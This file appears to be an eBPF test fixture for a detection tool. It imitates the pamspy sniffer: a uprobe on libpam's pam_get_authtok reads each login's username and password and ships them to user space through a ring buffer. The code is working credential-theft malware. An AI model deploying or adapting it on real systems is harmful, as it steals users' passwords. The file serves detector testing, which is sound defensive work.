// SPDX-License-Identifier: GPL-2.0
/*
 * MALICIOUS-STYLE, imitates pamspy (github.com/citronneur/pamspy): a uprobe
 * on libpam's pam_get_authtok that copies the user name and password out of
 * the PAM handle and ships them through a ring buffer.
 *
 * Its helper profile is exactly the seed's "pamspy" pattern and nothing else:
 * bpf_get_current_pid_tgid, bpf_map_lookup_elem, bpf_probe_read (x5 or more,
 * the legacy helper #4), bpf_map_delete_elem, bpf_get_current_comm,
 * bpf_ringbuf_reserve, bpf_ringbuf_submit. det_pam_get_authtok
 * calls each exactly as often as the pattern says (bpf_probe_read five times,
 * every other helper once), so "at least" and "exactly" readings both match.
 * Names carry the seed's prefixes det_ and handle_ (none is its exact name
 * testtest). det_pam_get_authtok is 19 characters, so the kernel keeps
 * "det_pam_get_aut".
 */
#include "sentry_test.h"
#include "pam_handle.h"

char LICENSE[] SEC("license") = "GPL";

struct {
	__uint(type, BPF_MAP_TYPE_RINGBUF);
	__uint(max_entries, 64 * 1024);
} creds SEC(".maps");

/* Processes user space told us to leave alone once (e.g. its own tests). */
struct {
	__uint(type, BPF_MAP_TYPE_HASH);
	__uint(max_entries, 1024);
	__type(key, u32);
	__type(value, u8);
} skip_once SEC(".maps");

static __always_inline int sniff_authtok(struct pt_regs *ctx)
{
	struct pam_handle *pamh = (struct pam_handle *)PT_REGS_PARM1(ctx);
	u32 pid = bpf_get_current_pid_tgid() >> 32;
	char *authtok = 0, *user = 0;
	unsigned caller_is = 0;
	struct cred_event *ev;

	if (bpf_map_lookup_elem(&skip_once, &pid)) {
		bpf_map_delete_elem(&skip_once, &pid);
		return 0;
	}
	bpf_probe_read(&authtok, sizeof(authtok), &pamh->authtok);
	bpf_probe_read(&user, sizeof(user), &pamh->user);
	bpf_probe_read(&caller_is, sizeof(caller_is), &pamh->caller_is);
	if (!authtok)
		return 0;

	ev = bpf_ringbuf_reserve(&creds, sizeof(*ev), 0);
	if (!ev)
		return 0;
	ev->pid = pid;
	bpf_get_current_comm(ev->comm, sizeof(ev->comm));
	bpf_probe_read(ev->password, sizeof(ev->password), authtok);
	bpf_probe_read(ev->username, sizeof(ev->username), user);
	ev->caller_is = caller_is;
	bpf_ringbuf_submit(ev, 0);
	return 0;
}

SEC("uprobe//lib/x86_64-linux-gnu/libpam.so.0:pam_get_authtok")
int det_pam_get_authtok(struct pt_regs *ctx)
{
	return sniff_authtok(ctx);
}

/*
 * Same prefix, a subset of the profile: matches the name patterns and the
 * "no helper outside the list" half of the seed's rule but not the counts.
 */
SEC("uretprobe//lib/x86_64-linux-gnu/libpam.so.0:pam_get_authtok")
int handle_pam_ret(struct pt_regs *ctx)
{
	u32 pid = bpf_get_current_pid_tgid() >> 32;

	if (bpf_map_lookup_elem(&skip_once, &pid))
		bpf_map_delete_elem(&skip_once, &pid);
	return 0;
}
